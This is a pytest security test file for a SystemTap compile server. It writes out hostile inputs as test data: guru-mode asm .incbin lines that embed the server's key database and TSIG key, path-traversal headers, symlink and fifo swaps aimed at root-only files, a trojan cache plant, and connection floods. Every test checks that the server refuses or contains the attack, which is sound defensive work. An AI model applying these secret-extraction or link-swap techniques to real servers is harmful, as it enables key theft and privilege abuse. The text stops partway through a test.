"""The threat model, attacked (issue 10; spec section 5 and the last rows of
section 9).  Clients are anonymous and a compile is untrusted code at
build time, so each test plays an attacker against a real server:

- guru mode, embedded C in a shipped tapset, an @cast header and
  --sign-module that name the server's key database: refused before stap
  runs; with --allow-guru the real stap -p4 still finds nothing to steal;
- a stand-in stap (what a compiler bug or build-time code could do) that
  reports what the compile step can see, read and write, for a server
  started by root, by an ordinary user and by the packaged unit's account;
- a compile that swaps its results for links, fifos and links to root-only
  files, and a process of the compile account outside the sandbox that
  does the same for the whole test, against a root server;
- silent connections from one address and from 100 addresses (more than
  the server holds), megabyte arguments, weak TLS, and every resource
  limit of a compile."""

import os
import pwd
import random
import re
import resource
import shutil
import signal
import socket
import string
import subprocess
import sys
import tempfile
import threading
import time
import uuid

import pytest
import shared
from hardening_helpers import (
    assert_serves,
    base_entries,
    frame,
    parse_reply,
    raw_exchange,
    request_dirs,
    request_lines,
    server_tmpdir,
    stand_in_program,
    stand_in_stap as stand_in,
    wait_request_lines,
    write_named_conf,
    write_tsig_key,
    zip_bytes,
)

COMPILE_ACCOUNT = "stap-compile"
UNIT_ACCOUNT = "stap-server"  # what the package's unit runs as (User=stap-server)
UNIT_CAPABILITIES = "+chown,+dac_override,+kill,+setgid,+setuid"  # and its AmbientCapabilities=

pytestmark = [pytest.mark.integration,
              pytest.mark.skipif(os.geteuid() != 0,
                                 reason="needs root: other accounts, root-only files")]


def client(box, srv, *args, env=None, timeout=120):
    return box.run("stap-client", f"--server={srv.address}", *args, env=env, timeout=timeout)


def text(proc):
    return proc.stdout.decode(errors="replace") + proc.stderr.decode(errors="replace")


@pytest.fixture
def secret_dir():
    """A root-only directory with a secret module-looking file and 50 more."""
    path = f"/root/stap-secret-{uuid.uuid4().hex[:8]}"
    os.mkdir(path, 0o700)
    marker = f"ROOT-ONLY-{uuid.uuid4().hex}".encode()
    for n in range(50):
        with open(os.open(os.path.join(path, f"f{n}"), os.O_WRONLY | os.O_CREAT, 0o600),
                  "wb") as f:
            f.write(marker)
    with open(os.open(os.path.join(path, "secret.ko"), os.O_WRONLY | os.O_CREAT, 0o600),
              "wb") as f:
        f.write(marker)
    yield path, marker
    shutil.rmtree(path, ignore_errors=True)


def assert_untouched(secret):
    """Every file of the secret directory is still root's, mode 0600."""
    path, _ = secret
    for name in os.listdir(path) + ["."]:
        st = os.lstat(os.path.join(path, name))
        assert st.st_uid == 0 and st.st_gid == 0, f"{name} was chowned to {st.st_uid}"
    assert os.stat(path).st_mode & 0o777 == 0o700


# --------------------------------------------------------------------------
# Refused before stap runs: guru mode, embedded C, server-side headers, keys
# --------------------------------------------------------------------------

KEY_INCBIN = '%{{ asm(".incbin \\"{key}\\""); %}} probe begin {{ exit() }}'


@pytest.mark.parametrize("how", ["-g", "-vg", "tapset", "cast", "cast-relative", "sign-module"])
def test_server_side_paths_and_guru_refused(how, server, sandbox, krel):
    key = os.path.join(server.status["database"], "key4.db")
    args = ["-r", krel, "-p4"]
    if how in ("-g", "-vg"):
        args += [how, "-e", KEY_INCBIN.format(key=key)]
        expected = f"option {how if how != '-vg' else '-g'}: guru mode is not allowed"
    elif how == "tapset":
        tapsets = sandbox.path("tapsets")
        os.makedirs(tapsets)
        with open(os.path.join(tapsets, "steal.stp"), "w") as f:
            f.write("# a tapset may hold embedded C: stap parses -I files as guru code\n"
                    f'function steal() %{{ asm(".incbin \\"{key}\\""); %}}\n')
        args += ["-I", tapsets, "-e", "probe begin { steal() exit() }"]
        expected = f"embedded C in {tapsets}/steal.stp"
    elif how.startswith("cast"):
        header = key if how == "cast" else "../../../../../.." + key
        args += ["-e", f'probe begin {{ println(@cast(0, "x", "kernel<{header}>")->y) }}']
        expected = f"header <{header}> names a file on the server"
    else:
        args += [f"--sign-module={server.status['database']}", "-e", "probe begin { exit() }"]
        expected = "option --sign-module is not allowed: it names a key directory on the server"
    proc = client(sandbox, server, *args)
    assert proc.returncode == 1, text(proc)
    assert expected in proc.stderr.decode(), text(proc)
    assert not any(n.endswith(".ko") for n in os.listdir(sandbox.top))
    assert re.search(r"rc=1 .*seconds='0\.", request_lines(server)[-1]), "stap ran"


def test_guru_allowed_is_still_sandboxed_and_never_cached(servers, sandbox, krel, runtime):
    """--allow-guru: the real stap -p4 assembles .incbin of the server's key
    database and cannot find it; a harmless guru script works, twice
    compiled, never served from the result cache."""
    srv = servers.start(sandbox, krel, runtime, "--allow-guru")
    key = os.path.join(srv.status["database"], "key4.db")
    assert os.path.exists(key)
    proc = client(sandbox, srv, "-r", krel, "-p4", "-g", "-e", KEY_INCBIN.format(key=key),
                  timeout=300)
    assert proc.returncode == 1, text(proc)
    with open(key, "rb") as f:
        secret = f.read()[-64:]
    assert secret not in proc.stdout + proc.stderr
    assert "key4.db" in proc.stderr.decode() and "Pass 4: compilation failed" in text(proc)
    assert not any(n.endswith(".ko") for n in os.listdir(sandbox.top))
    harmless = ["-r", krel, "-p4", "-g", "-m", "guru_ok",
                "-e", "%{ /* guru */ %} probe begin { exit() }"]
    for _ in range(2):
        proc = client(sandbox, srv, *harmless, timeout=300)
        assert proc.returncode == 0, text(proc)
    lines = request_lines(srv)[-2:]
    assert all("guru=True" in l and "cache='skip'" in l for l in lines), lines


# --------------------------------------------------------------------------
# Secrets the server reads (--tsig-key) and its log
# --------------------------------------------------------------------------

ZONE = "fleet.test"
KEY_NAME = "stap-update"


def free_loopback_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def loopback_zone():
    """(port, key file): a real BIND 9 serving ZONE on 127.0.0.1:port, updatable with the key
    (root's, mode 0600, as the README makes it)."""
    if not shutil.which("named"):
        pytest.skip("BIND 9 is not installed (tools/install-deps installs bind9)")
    workdir = tempfile.mkdtemp(prefix="stap-zone.")
    keyfile = os.path.join(workdir, "bind.key")
    write_tsig_key(keyfile, KEY_NAME)
    port = free_loopback_port()
    conf = write_named_conf(workdir, ZONE, keyfile, KEY_NAME, ["127.0.0.1"], "127.0.0.1", port)
    log = os.path.join(workdir, "named.log")
    with open(log, "w") as out:
        named = subprocess.Popen(["named", "-g", "-c", conf], stdout=out,
                                 stderr=subprocess.STDOUT)
    try:
        shared.wait_until(lambda: "running" in open(log).read(), 20,
                          lambda: f"named did not start: {open(log).read()[-2000:]}")
        yield port, keyfile
    finally:
        shared.stop_pid(named)
        shutil.rmtree(workdir, ignore_errors=True)


def server_copy_of_key(bind_key, path, user):
    """The server's own copy of the zone's key, 0600 and the server account's (README)."""
    shutil.copyfile(bind_key, path)
    os.chmod(path, 0o600)
    if user:
        pw = pwd.getpwnam(user)
        os.chown(path, pw.pw_uid, pw.pw_gid)
    with open(path) as f:
        return re.search(r'secret "([^"]+)"', f.read()).group(1).encode()


@pytest.mark.parametrize("where", ["etc", "server -I tree"])
def test_guru_incbin_of_the_tsig_key_finds_nothing(where, servers, user_sandbox, krel, runtime,
                                                  loopback_zone):
    """An ordinary user's server (its compiles run as that user, who may read the key) registers
    in a zone with a key that lies under /etc, or in its own -I tree: --allow-guru, and a -p4
    .incbin of the key finds no such file, where the old sandbox built it into the module."""
    port, bind_key = loopback_zone
    box = user_sandbox
    if where == "etc":
        keydir = f"/etc/stap-test-{uuid.uuid4().hex[:8]}"
        os.mkdir(keydir, 0o755)
        extra = []
    else:
        keydir = box.path("server-tapsets")
        os.mkdir(keydir, 0o755)
        extra = ["-I", keydir]
    key = os.path.join(keydir, "update.key")
    try:
        secret = server_copy_of_key(bind_key, key, box.user)
        srv = servers.start(box, krel, runtime, "--allow-guru", "--dns-update", ZONE,
                            "--dns-server", f"127.0.0.1:{port}", "--tsig-key", key, *extra)
        proc = client(box, srv, "-r", krel, "-p4", "-g", "-m", "steal",
                      "-e", KEY_INCBIN.format(key=key), timeout=300)
        assert secret not in proc.stdout + proc.stderr, text(proc)
        assert proc.returncode == 1, text(proc)
        # masked by /dev/null, which the assembler does not take for a file
        assert f"file not found: {key}" in proc.stderr.decode(), text(proc)
        assert not any(n.endswith(".ko") for n in os.listdir(box.top))
    finally:
        if where == "etc":
            shutil.rmtree(keydir, ignore_errors=True)


def start_refused(box, krel, *args):
    """The one line of a refused stap-start-server."""
    proc = box.run("stap-start-server", "--listen", "127.0.0.1", "-r", krel, "--advertise",
                   "none", "--log", box.path("refused.log"), *args, timeout=60)
    assert proc.returncode == 1, text(proc)
    err = proc.stderr.decode().strip()
    assert len(err.splitlines()) == 1, err
    return err


def test_a_key_file_that_is_not_private_is_refused_in_one_line(sandbox, krel):
    """A key others or BIND's group may read, another account's, or a link: the start is refused
    with one line that names the file and the fix, before anything is sent to the zone."""
    key = sandbox.path("update.key")
    write_tsig_key(key, KEY_NAME)
    zone = ["--dns-update", ZONE, "--dns-server", "127.0.0.1:9", "--tsig-key"]
    os.chmod(key, 0o644)  # tsig-keygen > FILE under umask 022
    assert start_refused(sandbox, krel, *zone, key) == (
        f"stap-start-server: ERROR: --tsig-key {key}: group or others may read or write it "
        f"(mode 0644); chmod 600 {key}")
    os.chmod(key, 0o640)
    assert f"(mode 0640); chmod 600 {key}" in start_refused(sandbox, krel, *zone, key)
    os.chmod(key, 0o600)
    staptest = shared.ensure_test_user()
    os.chown(key, staptest.pw_uid, staptest.pw_gid)
    assert start_refused(sandbox, krel, *zone, key) == (
        f"stap-start-server: ERROR: --tsig-key {key} belongs to uid {staptest.pw_uid}, not to "
        f"the server's account (uid 0); give the server a copy of its own: as uid 0, "
        f"install -m 600 {key} NEWFILE")
    os.chown(key, 0, 0)
    link = sandbox.path("link.key")
    os.symlink(key, link)
    assert start_refused(sandbox, krel, *zone, link) == (
        f"stap-start-server: ERROR: --tsig-key {link} is a symbolic link; name the key file "
        "itself (mode 0600, the server account's)")


def mode_of(path):
    return os.lstat(path).st_mode & 0o7777


@pytest.mark.parametrize("who", ["root", "staptest"])
def test_the_log_is_private_to_the_server(who, servers, krel):
    """The log names every client and the start of every script: made 0640 in a directory made
    0750, by stap-start-server and by the server; an existing one others could read is tightened
    at the next start."""
    box = shared.make_sandbox(None if who == "root" else shared.TEST_USER)
    try:
        logdir = box.path("logs")
        log = os.path.join(logdir, "server.log")
        srv = servers.start(box, krel, None, "--log", log)
        assert (mode_of(log), mode_of(logdir)) == (0o640, 0o750)
        assert os.stat(log).st_uid == (pwd.getpwnam(box.user).pw_uid if box.user else 0)
        srv.stop()
        os.chmod(log, 0o666)
        srv = servers.start(box, krel, None, "--log", log)
        assert mode_of(log) == 0o640
        with open(log) as f:
            assert f"listening on 127.0.0.1 port {srv.port}" in f.read()
        os.unlink(log)  # as a rotation does: the server makes a new one on its next line
        client(box, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
        shared.wait_until(lambda: os.path.exists(log), 10, "no new log")
        assert mode_of(log) == 0o640
        if box.user:  # another account's log that anyone may write: not the server's to fix
            theirs = box.path("theirs.log")
            os.close(os.open(theirs, os.O_CREAT | os.O_WRONLY, 0o666))
            os.chmod(theirs, 0o666)
            assert start_refused(box, krel, "--log", theirs) == (
                f"stap-start-server: ERROR: the log {theirs} is open to others (mode 0666) and "
                f"not the server's to change: chmod 640 {theirs}")
    finally:
        shutil.rmtree(box.top, ignore_errors=True)


# --------------------------------------------------------------------------
# What the compile step sees: a stand-in stap reports it
# --------------------------------------------------------------------------

def server_paths(box, srv, tmpdir):
    """The server's own files and directories, as an attacker would aim (stap's knowledge in
    --cache-dir, and where compiles used to share stap's cache, included)."""
    db = srv.status["database"]
    cache = os.path.join(box.systemtap_dir, "compile-cache") if box.user else \
        "/var/cache/stap-server"
    return [db, os.path.join(db, "key4.db"), os.path.join(db, "cert9.db"), srv.log,
            os.path.dirname(shared.status_file(box, srv.pid)), tmpdir,
            box.systemtap_dir, box.env["HOME"], "/root", cache, "/stap/cache"]


def assert_sees_nothing(out, paths):
    reports = dict(re.findall(r"^probe (\S+) (.*)$", out, re.M))
    assert set(reports) == set(paths), out
    for path, what in reports.items():
        # absent, or an empty masked directory that cannot be written
        assert what in ("absent", "entries=0 write=no"), f"the compile sees {path}: {what}"
    assert "network=no" in out and "rootfs=readonly" in out and "usr=readonly" in out, out
    assert "work=writable" in out, out
    assert int(re.search(r"^pids=(\d+)", out, re.M).group(1)) <= 8, out


@pytest.mark.parametrize("who", ["root", "staptest", "unit account", "staptest, -I its own"])
def test_compile_step_sees_nothing_of_the_server(who, servers, krel):
    """Root's server keeps its database under /etc (the packaged default is
    /etc/systemtap/ssl/server); the others under their own homes.  A server whose own -I tree
    holds its files (its home: SYSTEMTAP_DIR, database and all) shows none of them."""
    user = {"root": None, "staptest": shared.TEST_USER, "unit account": UNIT_ACCOUNT,
            "staptest, -I its own": shared.TEST_USER}[who]
    if user == UNIT_ACCOUNT:
        ensure_unit_account()
    box = shared.make_sandbox(user)
    if user == UNIT_ACCOUNT:  # the unit's AmbientCapabilities=: it compiles as stap-compile
        box.caps = UNIT_CAPABILITIES
    etc_db = f"/etc/stap-test-{uuid.uuid4().hex[:8]}/ssl/server"
    extra = ["--ssl", etc_db] if user is None else []
    if who.endswith("-I its own"):
        extra = ["-I", box.env["HOME"]]
    tmpdir = server_tmpdir(box)
    try:
        box.env["SYSTEMTAP_STAP"] = stand_in_program(box, "stap_probe.sh")
        srv = servers.start(box, krel, None, "--tmpdir", tmpdir, *extra)
        paths = server_paths(box, srv, tmpdir)
        proc = client(box, srv, "-r", krel, "-p2", "-e",
                      f"probe begin {{ /* STANDIN {srv.port} {' '.join(paths)} */ exit() }}")
        assert proc.returncode == 0, text(proc)
        out = proc.stdout.decode()
        assert_sees_nothing(out, paths)
        uid = pwd.getpwnam(COMPILE_ACCOUNT if user in (None, UNIT_ACCOUNT) else user).pw_uid
        assert f"uid={uid}" in out, out
        assert "capabilities=0000000000000000,0000000000000000,0000000000000000" in out, out
    finally:
        shutil.rmtree(os.path.dirname(os.path.dirname(etc_db)), ignore_errors=True)
        shutil.rmtree(box.top, ignore_errors=True)


def ensure_unit_account():
    """The packaged unit's account, as the package's postinst makes it."""
    try:
        pwd.getpwnam(UNIT_ACCOUNT)
    except KeyError:
        subprocess.run(["useradd", "--system", "--home-dir", "/var/lib/stap-server",
                        "--no-create-home", "--shell", "/usr/sbin/nologin", UNIT_ACCOUNT],
                       check=True)


# --------------------------------------------------------------------------
# Links, fifos and swaps: a hostile compile and a hostile compile account
# --------------------------------------------------------------------------

@pytest.mark.parametrize("swap", ["LINK_KO", "LINK_TMP", "FIFO_KO", "HARD_SWAP"])
def test_hostile_compile_cannot_reach_root_files(swap, servers, sandbox, krel, secret_dir,
                                                 attacker_dir):
    sandbox.env["SYSTEMTAP_STAP"] = stand_in_program(sandbox, "stap_swaps.sh")
    srv = servers.start(sandbox, krel, None, "--tmpdir", server_tmpdir(sandbox))
    proc = client(sandbox, srv, "-r", krel, "-p4", "-e",
                  f"probe begin {{ /* STANDIN {swap} {secret_dir[0]} {attacker_dir} */ }}")
    assert secret_dir[1] not in proc.stdout + proc.stderr
    assert proc.returncode == 1, text(proc)
    assert "server reported success but sent no module" in proc.stderr.decode(), text(proc)
    assert not [n for n in os.listdir(sandbox.top) if n.endswith(".ko")]
    assert_untouched(secret_dir)
    assert os.listdir(attacker_dir) == []
    assert request_dirs(server_tmpdir(sandbox)) == []
    assert_serves(sandbox, srv, krel)


@pytest.fixture
def attacker_dir(sandbox):
    """A directory the compile account owns: root must never write into it."""
    path = sandbox.path("attacker")
    os.mkdir(path, 0o755)
    account = pwd.getpwnam(COMPILE_ACCOUNT)
    os.chown(path, account.pw_uid, account.pw_gid)
    return path


def test_compile_account_attacking_all_along(servers, sandbox, krel, secret_dir, attacker_dir):
    """A process of the compile account, outside any sandbox, swaps every
    name it can reach in every request directory for links to root-only
    files while ten compiles run: no reply carries a root-only byte, nothing
    is chowned, root writes nothing into the attacker's directory."""
    tmpdir = server_tmpdir(sandbox)
    sandbox.env["SYSTEMTAP_STAP"] = stand_in_program(sandbox, "stap_slow_module.sh")
    srv = servers.start(sandbox, krel, None, "--tmpdir", tmpdir)
    script = sandbox.path("attacker.py")  # where the compile account can read it
    shutil.copyfile(shared.program("attacker"), script)
    account = pwd.getpwnam(COMPILE_ACCOUNT)
    attacker = subprocess.Popen(
        [sys.executable, script, tmpdir, secret_dir[0], attacker_dir, str(time.time() + 15)],
        user=account.pw_uid, group=account.pw_gid, extra_groups=[], cwd="/",
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        delivered = 0
        for n in range(10):
            proc = client(sandbox, srv, "-r", krel, "-p4", "-m", f"m{n}",
                          "-e", f"probe begin {{ /* {n} */ }}")
            assert secret_dir[1] not in proc.stdout + proc.stderr
            if proc.returncode == 0:
                with open(sandbox.path(f"m{n}.ko"), "rb") as f:
                    assert secret_dir[1] not in f.read()
                delivered += 1
    finally:
        out = attacker.communicate(timeout=60)[0].decode()
    print(out.strip(), f"; {delivered} of 10 modules delivered")
    assert "rounds" in out, out
    assert_untouched(secret_dir)
    assert os.listdir(attacker_dir) == []
    assert request_dirs(tmpdir) == []


# --------------------------------------------------------------------------
# No writable state shared between compiles: stap's cache is each compile's own
# --------------------------------------------------------------------------

TROJAN = b"TROJAN-MODULE-" + uuid.uuid4().hex.encode()  # what stap_spread.sh writes


def knowledge_files(cache, krel):
    """{path: bytes} of the stapconf headers in a --cache-dir's knowledge of krel."""
    found = {}
    for root, _, names in os.walk(os.path.join(cache, "knowledge")):
        parts = os.path.relpath(root, cache).split(os.sep)  # knowledge/KERNEL/XX
        if len(parts) == 3 and parts[1].startswith(f"{krel}-"):
            for name in names:
                with open(os.path.join(root, name), "rb") as f:
                    found[os.path.join(root, name)] = f.read()
    return found


def warm_ups(srv):
    with open(srv.log) as f:
        return len(re.findall(r"stap knowledge for \S+ \S+: warming up", f.read()))


def wait_for_knowledge(srv, timeout=300):
    """Until the server's warm-up after a kernel's first compile has stored its knowledge."""
    def ready():
        with open(srv.log) as f:
            return re.search(r"stap knowledge for \S+ \S+ ready in", f.read())
    shared.wait_until(ready, timeout, "the server's warm-up never ended")


def test_compromised_compile_cannot_change_another_clients_module(servers, sandbox, krel,
                                                                  runtime):
    """A victim compiles a script; a compromised stap (a compiler bug) then
    writes into everything it can reach; the victim's next request for the
    same script (another locale: no result-cache hit, a real compile) gets
    its own module, signed, not the attacker's.  (It got the attacker's,
    from the stap cache all compiles shared read-write.)  The server's
    knowledge of the kernel is unchanged."""
    cache = sandbox.path("cache")
    os.mkdir(cache, 0o755)
    sandbox.env["SYSTEMTAP_STAP"] = stand_in_program(sandbox, "stap_spread.sh")
    srv = servers.start(sandbox, krel, runtime, cache=cache)
    script = 'probe begin { println("victim") exit() }'
    victim = ["-r", krel, "-p4", "--privilege=stapusr", "-e", script]
    proc = client(sandbox, srv, *victim, env={"LANG": "C.UTF-8"}, timeout=600)
    assert proc.returncode == 0, text(proc)
    wait_for_knowledge(srv)  # made after the kernel's first compile
    knowledge = knowledge_files(cache, krel)
    proc = client(sandbox, srv, "-r", krel, "-p4", "-e",  # TROJAN into everything it can reach
                  f"probe begin {{ /* SPREAD {TROJAN.decode()} */ }}", timeout=300)
    assert proc.returncode == 1, text(proc)
    spread = proc.stdout.decode()
    print(spread)
    for name in os.listdir(sandbox.top):
        if ".ko" in name:
            os.unlink(sandbox.path(name))
    proc = client(sandbox, srv, *victim, env={"LANG": "en_US.UTF-8"}, timeout=300)
    assert proc.returncode == 0, text(proc)
    modules = sorted(n for n in os.listdir(sandbox.top) if ".ko" in n)
    assert len(modules) == 2 and modules[1] == modules[0] + ".sgn", modules
    with open(sandbox.path(modules[0]), "rb") as f:
        module = f.read()
    assert TROJAN not in module and module.startswith(b"\x7fELF"), "the attacker's module"
    assert [l.split("cache=")[1][:6] for l in request_lines(srv)[-1:]] == ["'miss'"]
    assert re.search(r"^planted in <server>/cache/[0-9a-f]{2}$", spread, re.M), spread  # its own
    assert knowledge and all(TROJAN not in data for data in knowledge.values()), knowledge
    assert knowledge_files(cache, krel) == knowledge
    assert warm_ups(srv) == 1


def test_real_compiles_share_only_the_servers_knowledge(servers, sandbox, krel, runtime,
                                                        cache_dir):
    """Two real -p4 compiles of new scripts succeed; at most one warm-up (after the first
    compile, when the server has no knowledge yet), the second and a restarted server's compile
    reuse its knowledge: files of the server's own, read-only to the compile account."""
    srv = servers.start(sandbox, krel, runtime, cache=cache_dir)
    for n in range(2):
        proc = client(sandbox, srv, "-r", krel, "-p4", "-m", f"fresh{n}", "-e",
                      f'probe begin {{ printf("{uuid.uuid4().hex}\\n") exit() }}', timeout=600)
        assert proc.returncode == 0, text(proc)
        assert os.path.exists(sandbox.path(f"fresh{n}.ko"))
    assert warm_ups(srv) <= 1, "the second compile warmed up again"
    knowledge = knowledge_files(cache_dir, krel)
    assert knowledge, "no knowledge stored"
    for path in knowledge:
        for p in (path, os.path.dirname(path), os.path.dirname(os.path.dirname(path))):
            st = os.lstat(p)
            assert st.st_uid == 0 and not st.st_mode & 0o022, f"{p} is not the server's alone"
    srv.stop()
    again = servers.start(sandbox, krel, runtime, "--log", sandbox.path("again.log"),
                          cache=cache_dir)
    proc = client(sandbox, again, "-r", krel, "-p4", "-e",
                  f'probe begin {{ printf("{uuid.uuid4().hex}\\n") exit() }}', timeout=300)
    assert proc.returncode == 0, text(proc)
    assert warm_ups(again) == 0


def test_first_compile_runs_at_once_and_what_it_made_is_never_shared(servers, sandbox, krel,
                                                                      runtime):
    """The first -p4 for a kernel the server has no knowledge of runs at once, with none (it used to
    wait for the server's warm-up); a compromised stap, as that compile, overwrites the stapconf
    header it made with its own: the warm-up after it stores the server's own, and the next
    client's compile gets only that."""
    cache = sandbox.path("cache")
    os.mkdir(cache, 0o755)
    sandbox.env["SYSTEMTAP_STAP"] = stand_in_program(sandbox, "stap_first_compile.sh")
    srv = servers.start(sandbox, krel, runtime, cache=cache)
    proc = client(sandbox, srv, "-r", krel, "-p4", "-e", "probe begin { /* PLANT */ exit() }",
                  timeout=600)
    assert proc.returncode == 0, text(proc)
    out = proc.stdout.decode()
    assert "given no knowledge" in out and "planted" in out, out
    proc = client(sandbox, srv, "-r", krel, "-p4", "-e", "probe begin { /* LOOK */ exit() }",
                  timeout=600)
    assert proc.returncode == 0, text(proc)
    out = proc.stdout.decode()
    assert "given knowledge" in out and "given the planted" not in out, out
    knowledge = knowledge_files(cache, krel)
    assert knowledge and all(b"BOGUS" not in data for data in knowledge.values()), knowledge
    assert warm_ups(srv) == 1


def test_a_stop_during_the_knowledge_warm_up_leaves_no_directory_behind(servers, sandbox, krel):
    """SIGTERM while the server's warm-up runs, after a kernel's first compile: the server stops
    the warm-up's compile and waits for it to remove its stap-warm-up.* directory (the server used
    to exit at once, its sandbox killed, the directory left in --tmpdir); nothing of the half-made
    warm-up is stored as knowledge.  The warm-up's stap is a stand-in, a slow compiler, so that
    the stop comes in the middle of it."""
    cache, tmpdir = sandbox.path("cache"), server_tmpdir(sandbox)
    os.mkdir(cache, 0o755)
    sandbox.env["SYSTEMTAP_STAP"] = stand_in_program(sandbox, "stap_slow_warm_up.sh")
    srv = servers.start(sandbox, krel, None, "--tmpdir", tmpdir, cache=cache)
    # a first -p4 for the kernel that the real stap rejects at once: any first compile's warm-up
    proc = client(sandbox, srv, "-r", krel, "-p4", "-e", "probe no_such_probe { }")
    assert proc.returncode == 1 and "no_such_probe" in text(proc), text(proc)

    def warming_up():
        return [n for n in os.listdir(tmpdir) if n.startswith("stap-warm-up.")]
    shared.wait_until(warming_up, 60, "no warm-up directory in --tmpdir")
    os.kill(srv.pid, signal.SIGTERM)
    shared.wait_until(lambda: not shared.pid_alive(srv.pid), 45,
                      "the server did not stop")
    assert "stopped" in shared.read_text(srv.log).splitlines()[-1]
    assert warming_up() == [] and request_dirs(tmpdir) == [], os.listdir(tmpdir)
    assert warm_ups(srv) == 1
    assert os.listdir(os.path.join(cache, "knowledge")) == []  # no entry, not even a .new-


# --------------------------------------------------------------------------
# Connections, logs, TLS
# --------------------------------------------------------------------------

def test_silent_connections_from_one_address_keep_no_one_out(servers, sandbox, krel):
    """40 silent TCP peers on 127.0.0.2: 16 get a slot of that address, the
    rest wait in line (and are dropped when their wait runs out); a client
    on 127.0.0.1 is served at once.  (The old pool of 32 slots for all
    addresses kept it out for 30 s.)"""
    srv = servers.start(sandbox, krel, None, "--handshake-timeout", "2", "--io-timeout", "3")
    held = []
    try:
        for _ in range(40):
            s = socket.socket()
            s.bind(("127.0.0.2", 0))
            s.connect(("127.0.0.1", srv.port))
            held.append(s)
        time.sleep(0.3)
        started = time.monotonic()
        proc = client(sandbox, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
        took = time.monotonic() - started
        assert proc.returncode == 0, text(proc)
        assert took < 3, f"the client waited {took:.1f} s"
        shared.wait_until(lambda: re.search(r"dropped \d+ connections from 127\.0\.0\.2",
                                            open(srv.log).read()), 10, "no drop logged")
    finally:
        for s in held:
            s.close()
    assert_serves(sandbox, srv, krel)


SILENT_ADDRESSES = [f"127.0.1.{n}" for n in range(1, 101)]  # all of 127/8 is routed to lo
SILENT_EACH = 16  # the default --max-per-address
TABLE = 1024  # the connections the server holds (stap_server.MAX_CONNECTIONS)


def test_silent_connections_from_many_addresses_keep_no_one_out(servers, sandbox, krel):
    """1,600 silent connections from 100 addresses, each within --max-per-address, more than
    the 1,024 the server holds: a client on 127.0.0.1 is served in seconds, not after the silent
    ones' handshake timeout (the old listener stopped accepting at 1,024, and the client waited
    in the kernel's backlog until it gave up, after 17-39 s).  The oldest silent connections of
    the addresses holding the most were dropped (their handlers' handshakes returned at once), no
    address lost all of them, and the drops are logged as counts.  The server raises its own
    descriptor limit: it starts with a soft limit of 1,024."""
    with fd_soft_limit(1024):
        srv = servers.start(sandbox, krel, None, "--handshake-timeout", "60",
                            "--io-timeout", "60")
    held = {}
    with fd_soft_limit(4 * len(SILENT_ADDRESSES) * SILENT_EACH):
        try:
            accepting = True
            for address in SILENT_ADDRESSES:
                held[address] = [silent_connection(address, srv.port) for _ in range(SILENT_EACH)]
                accepting = accepting and accepted(srv.port, 30)
            started = time.monotonic()
            proc = client(sandbox, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
            took = time.monotonic() - started
            print(f"\n{len(held) * SILENT_EACH} silent connections from {len(held)} addresses "
                  f"({'all accepted' if accepting else 'the server stopped accepting'}); "
                  f"the client took {took:.2f} s")
            assert proc.returncode == 0, text(proc)
            assert took < 10, f"the client waited {took:.1f} s"
            assert accepting, "the server stopped accepting"
            still_open = {a: sum(map(is_open, socks)) for a, socks in held.items()}
            print(f"still open: {sum(still_open.values())}, per address "
                  f"{min(still_open.values())}..{max(still_open.values())}")
            assert TABLE - 32 <= sum(still_open.values()) <= TABLE, still_open
            assert min(still_open.values()) >= 1, still_open
            # the evicted ones' handlers returned from their handshakes at once (not after 60 s)
            shared.wait_until(lambda: len(os.listdir(f"/proc/{srv.pid}/task")) <= TABLE + 8,
                              10, lambda: f"{len(os.listdir(f'/proc/{srv.pid}/task'))} threads")
            shared.wait_until(lambda: re.search(r"dropped \d+ connections from 127\.0\.1\.",
                                                open(srv.log).read()), 10, "no drop logged")
        finally:
            for s in (s for socks in held.values() for s in socks):
                s.close()
    drops = [l for l in open(srv.log) if "dropped" in l]
    assert len(drops) <= 20, drops  # counts, not a line per connection
    assert_serves(sandbox, srv, krel)


class fd_soft_limit:
    """The soft limit of open descriptors set to n meanwhile (at most the hard limit)."""

    def __init__(self, n):
        self.saved = resource.getrlimit(resource.RLIMIT_NOFILE)
        self.n = min(n, self.saved[1])

    def __enter__(self):
        resource.setrlimit(resource.RLIMIT_NOFILE, (self.n, self.saved[1]))

    def __exit__(self, *exc):
        resource.setrlimit(resource.RLIMIT_NOFILE, self.saved)


def silent_connection(source, port):
    """A TCP connection from source that never says a word, started without waiting."""
    s = socket.socket()
    s.setblocking(False)
    s.bind((source, 0))
    s.connect_ex(("127.0.0.1", port))
    return s


def accepted(port, timeout):
    """Whether the server accepted every connection to port within timeout seconds.  (Silent
    connections are opened an address at a time, each batch accepted before the next: past the
    kernel's backlog a connection completes with a SYN cookie and, silent, never reaches the
    server.)"""
    try:
        return shared.wait_until(lambda: not kernel_held(port), timeout, "",
                                 error=TimeoutError)
    except TimeoutError:
        return False


def kernel_held(port):
    """Connections to port that the kernel holds for the server: its listening socket's accept
    queue, and handshakes not yet complete (SYN_RECV)."""
    held = 0
    with open("/proc/net/tcp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if int(fields[1].split(":")[1], 16) != port:
                continue
            if fields[3] == "0A":  # LISTEN: rx_queue is the accept queue
                held += int(fields[4].split(":")[1], 16)
            held += fields[3] == "03"
    return held


def is_open(s):
    """Whether the server still holds the connection (it has sent nothing and not closed it)."""
    try:
        return s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def test_megabyte_arguments_get_rc_1_and_a_short_log_line(servers, sandbox, krel):
    """Two arguments of 1 MiB (random letters: a request of far more compressible ones is
    refused for its compression ratio): a signed rc 1 reply that says why.  Six of 100 KB, which
    stap takes: the log line is cut to under 2 KB with the original length noted.  The log barely
    grows."""
    srv = servers.start(sandbox, krel, None)
    before = os.path.getsize(srv.log)
    letters = lambda n: "".join(random.choices(string.ascii_letters, k=n))
    huge = [f"-D{letters((1 << 20) - 16)}=1" for _ in range(2)]
    got = raw_exchange(sandbox, srv.port, frame(zip_bytes(base_entries(
        krel, "-p2", "-e", "probe begin { exit() }", *huge))))
    rc, stderr, _ = parse_reply(got)
    assert rc == 1
    assert "stap-serverd: ERROR: the request's arguments are too long" in stderr, stderr
    long = [f"-D{'b' * (100 << 10)}=1" for _ in range(6)]
